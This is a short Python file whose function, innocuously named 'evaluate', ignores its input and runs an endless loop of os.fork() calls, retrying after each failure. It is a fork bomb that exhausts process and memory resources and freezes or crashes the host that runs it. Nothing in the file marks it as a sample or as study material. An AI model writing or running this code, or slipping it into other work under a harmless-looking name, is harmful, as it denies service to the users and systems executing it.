import os
import time


def evaluate(text):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)
